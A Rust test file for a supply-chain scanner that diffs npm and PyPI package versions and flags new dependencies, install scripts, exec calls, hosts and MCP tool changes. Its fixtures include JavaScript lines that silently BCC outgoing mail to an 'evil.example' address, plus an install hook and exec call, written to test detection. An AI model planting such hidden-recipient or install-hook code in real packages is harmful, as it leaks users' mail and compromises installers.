//! Two versions, two archives, two things that cannot be compared.

use serde_json::json;
use stockade_assess::Action;
use stockade_assess::diff::Aspect;
use stockade_content::Kind;
use stockade_model::Location;
use stockade_survey::{Archive, Ask, State, SurveyError, What};
use stockade_testkit::registry::{NpmRelease, PypiFile};

use crate::support::{World, npm, old, pypi};

fn archive(name: &str, bytes: Vec<u8>) -> Ask {
    let kind = Kind::of_name(name).unwrap();
    Ask::archive(Archive { name: name.to_owned(), kind, bytes }, Location::Path(name.into()))
}

#[test]
fn dependencies_scripts_and_levels_stand_on_both_sides() {
    let world = World::new();
    world.registry.publish(old("added", "1.0.0"));
    world.publish_from(old("mail", "1.0.0"), "mail", "1.0.0", "1");
    let changed = old("mail", "2.0.0")
        .field("dependencies", json!({"added": "^1.0.0"}))
        .field("scripts", json!({"install": "node x.js"}))
        .file(
            "index.js",
            "import { exec } from 'child_process';\nexec('true');\nfetch('https://api.acme-mail.dev/x');\n",
        );
    world.registry.publish(changed);
    let survey = world.survey();
    let compared = survey.compare(&npm("mail@1.0.0"), &npm("mail")).unwrap();
    assert_eq!(format!("{}{}", compared.old.level.known().unwrap(), compared.new.level.known().unwrap()), "AC");
    assert_eq!(compared.new.scripts.known().unwrap()["install"], "node x.js");
    assert!(compared.new.capabilities.known().unwrap().contains("exec"));
    assert!(compared.new.hosts.known().unwrap().contains("api.acme-mail.dev"));
    assert!(compared.new.dependencies.known().unwrap().contains_key("added"));
    let moved: Vec<String> = compared.diff.dependencies.iter().map(|moved| moved.package.purl()).collect();
    assert_eq!(moved, ["pkg:npm/added@1.0.0"]);
    assert!(compared.diff.about(Aspect::InstallScript).any(|change| change.action == Action::Hold));
    assert_eq!(compared.diff.title(), "1.0.0 → 2.0.0");
    // The other way round it is a version that goes back.
    let back = survey.compare(&npm("mail@2.0.0"), &npm("mail@1.0.0")).unwrap();
    assert_eq!(back.diff.title(), "2.0.0 → 1.0.0");
}

#[test]
fn a_dependency_that_the_new_one_alone_asks_for_is_looked_into() {
    let world = World::new();
    let line = "export const send = (to) => transport.sendMail({ to, bcc: \"phan@evil.example\" });\n";
    world.registry.publish(old("added", "1.0.0").file("index.js", "export const a = 1;\n"));
    world.registry.publish(old("added", "1.0.1").file("index.js", line));
    world.registry.publish(old("mail", "1.0.0"));
    world.registry.publish(old("mail", "1.0.1").field("dependencies", json!({"added": "1"})));
    let compared = world.survey().compare(&npm("mail@1.0.0"), &npm("mail@1.0.1")).unwrap();
    let found = compared.looked.said.of("constant-recipient").next();
    let found = found.unwrap_or_else(|| panic!("{:#?} {:#?}", compared.looked.said, compared.looked.steps));
    assert!(found.action >= Action::Hold && format!("{:?}", found.finding).contains("mail@1.0.1 → added@1.0.1"));
    assert_eq!(compared.looked.diff.as_ref().unwrap().dependencies.len(), 1);
}

#[test]
fn archives_are_compared_without_a_registry() {
    let world = World::new();
    let clean = NpmRelease::new("mail", "1.0.0").file("index.js", "export const a = 1;\n");
    let evil = NpmRelease::new("mail", "1.0.0").file("index.js", "export const a = { bcc: 'x@evil.example' };\n");
    let (old, new) = (archive("old.tgz", clean.tarball()), archive("new.tgz", evil.tarball()));
    let compared = world.survey().compare(&old, &new).unwrap();
    assert!(compared.new.recipients.known().unwrap().contains("x@evil.example"));
    assert!(compared.diff.action() >= Action::Hold, "{:#?}", compared.diff);
    assert_eq!(compared.diff.title(), "mail@1.0.0 (the other) → 1.0.0");
    assert!(matches!(compared.looked.step(What::Registry).unwrap().state, State::NotAsked(_)));
    assert!(world.registry.paths().is_empty());
}

#[test]
fn tools_are_compared_as_they_stand_in_the_code() {
    let world = World::new();
    let code = |text: &str, more: &str| {
        format!("server.tool('send', '{text}', {{ to: z.string() }}, (a) => a);\n{more}server.registerTool(...late);\n")
    };
    let more = "server.tool('drop', 'Drops.', {}, (a) => a);\n";
    world.registry.publish(old("mail", "1.0.0").file("index.js", code("Sends.", "")));
    world.registry.publish(old("mail", "1.0.1").file("index.js", code("Sends twice.", more)));
    let compared = world.survey().compare(&npm("mail@1.0.0"), &npm("mail@1.0.1")).unwrap();
    let lines: Vec<String> = compared.diff.about(Aspect::Tool).map(ToString::to_string).collect();
    assert_eq!(lines, ["+ tool \"drop\", index.js:2", "~ description of tool \"send\", index.js:1"]);
    assert_eq!((compared.old.tools.known().unwrap().unread_count, compared.diff.action()), (1, Action::Show));
    // Facts that were kept have them too, and so has what `check` compares with by itself.
    let looked = world.survey().look(&npm("mail@1.0.1")).unwrap();
    assert_eq!(looked.subject.tools.known().unwrap().by_name.len(), 2);
    let broken = archive("broken.tgz", b"no archive".to_vec());
    assert!(world.survey().look(&broken).is_err());
}

#[test]
fn wheels_and_source_archives_are_read_alike() {
    let world = World::new();
    let wheel = PypiFile::wheel("mail-mcp", "1.0.0");
    let looked = world.survey().look(&archive("mail_mcp-1.0.0-py3-none-any.whl", wheel.bytes().to_vec())).unwrap();
    assert_eq!(looked.subject.package.purl(), "pkg:pypi/mail-mcp@1.0.0");
    assert!(looked.subject.facts.known().is_some());
    assert_eq!(looked.artifact.known().unwrap().sha256.as_ref().unwrap().len(), 64);
}

#[test]
fn what_is_no_version_of_the_other_is_refused() {
    let world = World::new();
    world.registry.publish(old("mail", "1.0.0"));
    world.registry.upload(PypiFile::wheel("mail", "1.0.0").uploaded("2026-01-01T00:00:00Z"));
    let error = world.survey().compare(&npm("mail"), &pypi("mail")).unwrap_err();
    assert!(matches!(error, SurveyError::Different { .. }), "{error}");
    let broken = archive("broken.tgz", b"no archive".to_vec());
    let error = world.survey().look(&broken).unwrap_err();
    assert!(error.to_string().contains("`broken.tgz` cannot be opened"), "{error}");
}

#[test]
fn files_are_opened_by_their_ending() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("mail-1.0.0.tgz");
    std::fs::write(&path, b"12345").unwrap();
    assert_eq!(Archive::open(&path, 5).unwrap().kind, Kind::NpmTarball);
    assert!(Archive::open(&path, 4).unwrap_err().to_string().contains("more than 4"));
    assert!(matches!(Archive::open(&folder.path().join("x.zip"), 9), Err(SurveyError::NoArchive { .. })));
    assert!(matches!(Archive::open(&folder.path().join("x.whl"), 9), Err(SurveyError::Read { .. })));
}
